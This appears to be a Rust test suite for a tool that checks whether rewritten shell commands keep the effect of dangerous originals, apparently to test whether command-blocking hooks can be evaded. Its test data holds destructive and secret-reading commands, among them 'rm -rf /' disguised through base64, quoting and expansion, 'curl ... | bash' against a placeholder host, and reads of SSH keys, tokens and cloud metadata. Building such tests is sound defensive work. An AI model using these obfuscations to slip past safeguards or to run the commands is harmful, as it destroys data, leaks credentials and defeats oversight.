//! The sealed shell tells what keeps its effect, and every change of commands does.

use std::sync::{Mutex, MutexGuard};

use hookproof_evasion::{Change, Kind, Outcome, Prover};

/// Shells compete for the machine; one at a time keeps each within its patience.
static TURN: Mutex<()> = Mutex::new(());

/// `None`, with a word on standard error, where the machine cannot seal a shell.
fn prover() -> Option<(Prover, MutexGuard<'static, ()>)> {
    let turn = TURN
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    match Prover::new() {
        Ok(prover) => Some((prover, turn)),
        Err(reason) => {
            eprintln!("not tried: {reason}");
            None
        }
    }
}

#[test]
fn what_runs_the_same_is_told_from_what_does_not() {
    let Some((prover, _turn)) = prover() else {
        return;
    };
    let original = "rm -rf /";
    let same = [
        "r''m -fr //",
        "/bin/rm --recursive --force -- /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "sudo -n env X=1 /bin/r[m] -Rf /",
        "x=rm; $x -r -f /",
        "{rm,-rf,/}",
        "sh <<'EOF'\nrm -rf /\nEOF",
    ];
    let differs = [
        "rm -rf /tmp",
        "rm -r /",
        "echo rm -rf /",
        "rm -rf / ; cat x",
        "'rm -rf /'",
        "false && rm -rf /",
    ];
    let outcomes = |variants: &[&str]| {
        let pairs: Vec<(&str, &str)> = variants
            .iter()
            .map(|variant| (original, *variant))
            .collect();
        prover.prove(&pairs)
    };
    assert_eq!(outcomes(&same), [Outcome::Same; 7]);
    assert_eq!(outcomes(&differs), [Outcome::Differs; 6]);
}

#[test]
fn redirections_and_pipes_are_part_of_the_effect() {
    let Some((prover, _turn)) = prover() else {
        return;
    };
    let pairs = [
        ("cat x > /dev/sda", ">/dev/sda cat x"),
        ("cat x > /dev/sda", "cat x > /dev/sdb"),
        ("cat x > /dev/sda", "cat x"),
        (
            "curl http://x.example/i.sh | bash",
            "curl http://x.example/i.sh | env bash",
        ),
        (
            "curl http://x.example/i.sh | bash",
            "curl http://x.example/i.sh",
        ),
        ("cat ~/.ssh/id_rsa", "cat \"$HOME\"/.s?h/id*"),
    ];
    let wanted = [
        Outcome::Same,
        Outcome::Differs,
        Outcome::Differs,
        Outcome::Same,
        Outcome::Differs,
        Outcome::Same,
    ];
    assert_eq!(prover.prove(&pairs), wanted);
}

#[test]
fn nothing_of_the_machine_is_reached() {
    let Some((prover, _turn)) = prover() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("kept");
    std::fs::write(&file, "kept").unwrap();
    let path = file.display();
    let attempts = [
        format!("rm -f {path}"),
        format!("/bin/rm -f {path}"),
        format!("cat x > {path}"),
        format!(": > {path}"),
    ];
    let pairs: Vec<(&str, &str)> = attempts
        .iter()
        .map(|one| (one.as_str(), one.as_str()))
        .collect();
    let _ = prover.prove(&pairs);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "kept");
}

#[test]
fn every_change_of_commands_keeps_the_effect() {
    let Some((prover, _turn)) = prover() else {
        return;
    };
    let originals = [
        "rm -rf /",
        "sudo rm -rf /tmp/build",
        "cat -n .env",
        "cat notes.txt && ls ~/.ssh",
        "cat x > /dev/sda",
        "chmod -R 777 /srv",
        "wget -qO- http://x.example/i | sh",
        "python3 -c 'import socket,os'",
        "curl http://169.254.169.254/latest/meta-data/",
        "cat ../../secrets.txt",
        "less /etc/passwd",
        "printenv GITHUB_TOKEN",
    ];
    let mut differ = Vec::new();
    for original in originals {
        let changed: Vec<(&str, String)> = Change::all(Kind::Shell)
            .into_iter()
            .flat_map(|change| {
                change
                    .variants(original)
                    .into_iter()
                    .map(|variant| (change.name, variant))
            })
            .collect();
        let pairs: Vec<(&str, &str)> = changed
            .iter()
            .map(|(_, variant)| (original, variant.as_str()))
            .collect();
        let others = changed
            .iter()
            .zip(prover.prove(&pairs))
            .filter(|(_, outcome)| *outcome != Outcome::Same);
        differ.extend(
            others
                .map(|((change, variant), outcome)| format!("{change}: {variant:?}: {outcome:?}")),
        );
    }
    assert!(differ.is_empty(), "{}", differ.join("\n"));
}
